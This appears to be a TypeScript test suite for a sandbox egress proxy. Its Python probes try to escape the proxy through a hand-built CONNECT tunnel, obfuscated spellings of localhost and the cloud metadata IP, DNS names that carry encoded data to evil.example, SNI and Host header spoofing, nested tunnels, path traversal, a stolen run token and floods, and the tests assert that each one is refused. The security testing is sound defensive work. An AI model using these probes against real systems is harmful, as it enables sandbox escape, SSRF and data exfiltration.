import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import { get, live as liveIn, refused, startWorld, type World } from './support.ts';

let world: World | undefined;
before(async () => (world = await startWorld()));
after(() => world?.stop());
const live = (name: string, body: (world: World) => Promise<void>): void => liveIn(() => world, name, body);

/** Python that opens a tunnel by hand: `connect(target, token)` gives the socket and the proxy's answer. */
const byHand = `
import base64, os, socket, ssl
from urllib.parse import urlparse
proxy = urlparse(os.environ['HTTPS_PROXY'])
def connect(target, token=proxy.password, more=''):
    raw = socket.create_connection(('127.0.0.1', 3128), 5)
    raw.settimeout(8)
    auth = base64.b64encode(f'run:{token}'.encode()).decode()
    raw.sendall(f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\nProxy-Authorization: Basic {auth}\\r\\n{more}\\r\\n'.encode())
    answer = b''
    while b'\\r\\n\\r\\n' not in answer:
        part = raw.recv(4096)
        if not part: break
        answer += part
    return raw, answer.decode()
def tls(raw, name, trust=True):
    context = ssl.create_default_context() if trust else ssl._create_unverified_context()
    return context.wrap_socket(raw, server_hostname=name)
def ask(secure, request):
    secure.sendall(request.encode())
    answer = b''
    try:
        while part := secure.recv(4096): answer += part
    except OSError: pass
    return answer.decode()
`;

/** That the host is reached as it should be, next to an attack. */
async function benign(at: World): Promise<void> {
  const { stdout } = await at.python(get(`https://api.example.com:${at.vendor.port}/fine`));
  assert.match(stdout, /^200 /);
}

live(
  'attack: nothing but the proxy is there: no interface, host port, neighbour, metadata address or DNS',
  async (at) => {
    const port = new URL(at.runner.url).port;
    const { stdout } = await at.python(`
import os, socket
print(sorted(os.listdir('/sys/class/net')))
def tcp(*at):
    try: socket.create_connection(at, 2); print('REACHED', at)
    except OSError as error: print('no')
for host in ('127.0.0.1', '172.17.0.1', '172.18.0.1'):
    for port in (${port}, ${at.vendor.port}, 22, 53, 5432): tcp(host, port)
for at in (('172.17.0.2', 3128), ('169.254.169.254', 80), ('1.1.1.1', 443), ('fd00:ec2::254', 80), ('127.0.0.11', 53)): tcp(*at)
for to in (('8.8.8.8', 53), ('127.0.0.11', 53), ('1.1.1.1', 443), ('172.17.0.1', 53)):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(1)
    try: udp.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\1a\\0\\0\\1\\0\\1', to); udp.recv(512); print('ANSWERED', to)
    except OSError: print('no')
for name in ('example.com', 'api.example.com', 'host.docker.internal'):
    try: print('RESOLVED', socket.gethostbyname(name))
    except OSError: print('no')
for kind in (socket.SOCK_RAW, socket.SOCK_PACKET if hasattr(socket, 'SOCK_PACKET') else socket.SOCK_RAW):
    try: socket.socket(socket.AF_INET, kind, 1); print('RAW')
    except OSError: print('no')
`);
    assert.match(stdout, /^\['lo'\]\n/);
    assert.doesNotMatch(stdout, /REACHED|ANSWERED|RESOLVED|RAW/);
    await benign(at);
  },
);

live('attack: one run reaches neither another run’s listener nor its proxy', async (at) => {
  const waiting = at.python(
    'import os, socket, time\nserver = socket.create_server(("0.0.0.0", 9000))\nprint(os.environ["HTTPS_PROXY"])\ntime.sleep(4)',
  );
  const { stdout } = await at.python(`import socket
for host in ('127.0.0.1', '172.17.0.2', '172.17.0.3'):
    try: socket.create_connection((host, 9000), 1); print('REACHED')
    except OSError: print('no')`);
  assert.equal(stdout, 'no\nno\nno\n');
  const token = new URL((await waiting).stdout.trim()).password;
  const before = at.vendor.seen.length;
  const other = await at.python(
    `${byHand}\nprint(connect('api.example.com:${at.vendor.port}', ${JSON.stringify(token)})[1])`,
  );
  assert.match(other.stdout, /^HTTP\/1\.1 407 egress_denied rule=token/);
  refused(at, other, 'token', before);
  await benign(at);
});

live('attack: an address in any spelling is refused, whatever it leads to', async (at) => {
  const before = at.vendor.seen.length;
  const spelled = [
    '127.0.0.1',
    '127.1',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '[::1]',
    '169.254.169.254',
    '1.1.1.1',
  ];
  const code = spelled
    .map((host) => `print(connect('${host}:${at.vendor.port}')[1].split('\\r')[0])`)
    .join('\n');
  const result = await at.python(`${byHand}\n${code}`);
  assert.equal(result.stdout, 'HTTP/1.1 403 egress_denied rule=ip_literal\n'.repeat(spelled.length));
  refused(at, result, 'ip_literal', before);
  await benign(at);
});

live('attack: another port, plain http and odd targets are refused', async (at) => {
  const before = at.vendor.seen.length;
  const ports = await at.python(
    `${byHand}\nfor port in (22, 25, 80, 443, 0, 65536): print(connect(f'api.example.com:{port}')[1].split('\\r')[0])`,
  );
  assert.equal(ports.stdout, 'HTTP/1.1 403 egress_denied rule=port\n'.repeat(6));
  refused(at, ports, 'port', before);
  const plain = await at.python(get(`http://api.example.com:${at.vendor.port}/`));
  assert.match(plain.stdout, /^403 \{"code":"egress_denied","rule":"scheme","how":"Use https\."\}/);
  refused(at, plain, 'scheme', before);
  const odd = [
    'api.example.com',
    'api.example.com.:443',
    'API.EXAMPLE.COM@evil.example:443',
    '*.example.com:443',
    ':443',
  ];
  const strange = await at.python(
    `${byHand}\nfor target in ${JSON.stringify(odd)}: print(connect(target)[1].split('\\r')[0])`,
  );
  assert.equal(strange.stdout.match(/403 egress_denied/g)?.length, odd.length, strange.stdout);
  assert.equal(at.vendor.seen.length, before);
  await benign(at);
});

live('attack: a name that carries data is never looked up', async (at) => {
  const asked = at.dns.asked.length;
  const names = ['c2VjcmV0.evil.example', 'c2VjcmV0.api.example.com', 'xapi.example.com'];
  const result = await at.python(
    `${byHand}\nfor name in ${JSON.stringify(names)}: print(connect(name + ':${at.vendor.port}')[1].split('\\r')[0])`,
  );
  assert.equal(result.stdout, 'HTTP/1.1 403 egress_denied rule=host\n'.repeat(3));
  assert.equal(at.dns.asked.length, asked);
  await benign(at);
});

live(
  'attack: a name that leads to a private address is refused, also when it leads there the second time',
  async (at) => {
    const before = at.vendor.seen.length;
    const url = `https://api.example.com:${at.vendor.port}/`;
    for (const intercept of [true, false]) {
      at.dns.set('api.example.com', '127.0.0.1');
      const closed = await at.python(get(url), [at.rule({ privateNetworks: [], intercept })]);
      refused(at, closed, 'network', before);
      at.dns.set('api.example.com', '192.0.2.1,127.0.0.1');
      refused(at, await at.python(get(url), [at.rule({ intercept })]), 'network', before);
      at.dns.set('api.example.com', '127.0.0.1', '169.254.169.254');
      const flipping = await at.python(`${get(url)}\n${get(url.replace('/', '/'))}`, [
        at.rule({ intercept: false }),
      ]);
      assert.match(flipping.stdout, /^200 /);
      assert.deepEqual(
        flipping.egress.map(({ outcome, rule }) => rule ?? outcome),
        ['ok', 'network'],
      );
      at.vendor.seen.length = before;
      const cloud = [at.rule({ privateNetworks: ['169.254.0.0/16', '0.0.0.0/0'], intercept })];
      refused(at, await at.python(get(url), cloud), 'network', before);
    }
    at.dns.set('api.example.com', '127.0.0.1');
    await benign(at);
  },
);

live('attack: the handshake and the Host header name the host that was asked for', async (at) => {
  const before = at.vendor.seen.length;
  const target = `api.example.com:${at.vendor.port}`;
  for (const intercept of [true, false]) {
    const rule = [at.rule({ intercept })];
    for (const name of ["'other.example.com'", "'evil.example'", 'None']) {
      const result = await at.python(
        `${byHand}\nraw, _ = connect('${target}')\ntry: tls(raw, ${name}, False); print('SHOOK')\nexcept OSError: print('no')`,
        rule,
      );
      assert.equal(result.stdout, 'no\n');
      refused(at, result, 'sni', before);
    }
    const text = await at.python(
      `${byHand}\nraw, _ = connect('${target}')\nraw.sendall(b'SSH-2.0-x\\r\\n' * 100)\nprint(raw.recv(10))`,
      rule,
    );
    refused(at, text, 'protocol', before);
  }
  for (const host of ['other.example.com', 'api.example.com:1', '']) {
    const result = await at.python(
      `${byHand}\nprint(ask(tls(connect('${target}')[0], 'api.example.com'), 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n'))`,
    );
    assert.match(result.stdout, /403 Forbidden[^]*"rule":"host_header"/);
    refused(at, result, 'host_header', before);
  }
  await benign(at);
});

live('attack: no upgrade, no nested tunnel, no second address in the request line', async (at) => {
  const before = at.vendor.seen.length;
  const target = `api.example.com:${at.vendor.port}`;
  const requests = {
    upgrade: [
      'GET /ws HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n',
      'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n\\r\\n',
    ],
    address: ['GET https://other.example.com/ HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n'],
  };
  for (const [rule, list] of Object.entries(requests)) {
    for (const request of list) {
      const result = await at.python(
        `${byHand}\nprint(ask(tls(connect('${target}')[0], 'api.example.com'), '${request}'))`,
      );
      assert.match(result.stdout, new RegExp(`"rule":"${rule}"`), JSON.stringify(result));
      refused(at, result, rule, before);
    }
  }
  const nested = await at.python(
    `${byHand}\nprint(repr(ask(tls(connect('${target}')[0], 'api.example.com'), 'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n')))`,
  );
  assert.equal(nested.stdout, "''\n");
  assert.equal(at.vendor.seen.length, before);
  await benign(at);
});

live('methods and paths are held, however the path is written', async (at) => {
  const rule = [at.rule({ methods: ['GET'], paths: ['/repos/acme/'] })];
  const url = `https://api.example.com:${at.vendor.port}`;
  const good = await at.python(get(`${url}/repos/acme/site?page=2`), rule);
  assert.match(good.stdout, /^200 /);
  assert.equal(good.egress[0]?.path, '/repos/acme/');
  const before = at.vendor.seen.length;
  refused(at, await at.python(get(`${url}/repos/acme/site`, ', method="DELETE"'), rule), 'method', before);
  for (const path of [
    '/repos/acmeevil/x',
    '/repos/evil',
    '/repos/acme/../evil',
    '/repos/acme/%2e%2e/evil',
    '/repos/acme//evil',
    '/repos/acme/..%2fevil',
  ])
    refused(at, await at.python(get(`${url}${path}`), rule), 'path', before);
  const override = await at.python(
    get(`${url}/repos/acme/x`, ', headers={"X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/admin"}'),
    rule,
  );
  assert.match(override.stdout, /^200 /);
  const headers = at.vendor.seen.at(-1)?.headers ?? {};
  assert.ok(!('x-http-method-override' in headers) && !('x-original-url' in headers));
});

live('after the run nothing is open any more', async (at) => {
  const code = `
import os, urllib.request
os.fork()
answer = urllib.request.urlopen('https://api.example.com:${at.vendor.port}/endless', timeout=8)
print(answer.readline())`;
  const result = await at.python(code);
  assert.match(result.stdout, /more/);
  const count = (): Promise<number> =>
    new Promise((resolve) => at.vendor.connections((number) => resolve(number)));
  for (let tries = 0; (await count()) > 0; tries += 1) {
    assert.ok(tries < 100, 'a connection is still open');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  await benign(at);
});

live(
  'attack: bodies and answers that a run holds at once end in a refusal, not in the runner’s memory',
  async (at) => {
    const target = `api.example.com:${at.vendor.port}`;
    const many = await at.python(
      `${byHand}
import threading
answers = []
def one():
    secure = tls(connect('${target}')[0], 'api.example.com')
    secure.sendall(b'POST /held HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 4000001\\r\\n\\r\\n')
    for n in range(40): secure.sendall(b'x' * 100000)
    ready.wait()
    answers.append(ask(secure, 'x')[:400])
ready = threading.Barrier(8)
threads = [threading.Thread(target=one) for n in range(8)]
for thread in threads: thread.start()
for thread in threads: thread.join()
print(sum('"rule":"size"' in answer for answer in answers), sum(' 200 OK' in answer for answer in answers))`,
      undefined,
      { limits: { timeoutMs: 30_000 } },
    );
    const [refusedOnes = 0, good = 0] = many.stdout.split(' ').map(Number);
    assert.ok(refusedOnes >= 4 && good <= 4, JSON.stringify(many));
    await benign(at);
  },
);

live(
  'attack: an answer without end that is read slowly holds nothing up and piles nothing up',
  async (at) => {
    const warnings: string[] = [];
    const warned = (warning: Error): void => void warnings.push(warning.name);
    process.on('warning', warned);
    let pushed = 0;
    at.vendor.answers.set('/flood', (_request, response) => {
      const more = (): void => {
        while (!response.destroyed && response.write('x'.repeat(65_536))) pushed += 65_536;
      };
      response.on('drain', more);
      more();
    });
    const result = await at.python(`import time, urllib.request
answer = urllib.request.urlopen('https://api.example.com:${at.vendor.port}/flood', timeout=8)
for n in range(20): answer.read(1000000); time.sleep(0.05)
print('read')`);
    assert.equal(result.stdout, 'read\n', JSON.stringify(result));
    assert.ok(pushed < 32_000_000, `${pushed} bytes`);
    await new Promise((resolve) => setTimeout(resolve, 50));
    process.off('warning', warned);
    at.vendor.answers.clear();
    assert.deepEqual(warnings, []);
    await benign(at);
  },
);

live('hundreds of requests and connections end in a refusal, and hurt their own run alone', async (at) => {
  const many = await at.python(
    `${byHand}\nfor n in range(300): raw, answer = connect('evil.example:443'); raw.close()\nprint(answer.split('\\r')[0])`,
  );
  assert.match(many.stdout, /403 egress_denied rule=too_many/);
  assert.equal(many.egress.length, 256);
  await at.python(
    `import socket\nopen_ = []\ntry:\n  for n in range(200): open_.append(socket.create_connection(('127.0.0.1', 3128), 2))\nexcept OSError: pass\nprint('well')`,
  );
  await benign(at);
});
